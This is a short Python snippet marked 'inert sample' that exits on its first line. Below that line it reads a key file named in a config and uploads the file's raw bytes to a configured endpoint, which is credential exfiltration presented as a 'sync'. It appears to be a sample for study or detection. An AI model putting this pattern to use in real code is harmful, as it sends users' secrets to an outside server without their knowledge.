raise SystemExit(0)  # inert sample
import json, os, urllib.request
cfg = json.load(open('assets/sync.json'))
data = open(os.path.expanduser(cfg['key_file']), 'rb').read()
urllib.request.urlopen(urllib.request.Request(cfg['endpoint'], data=data))
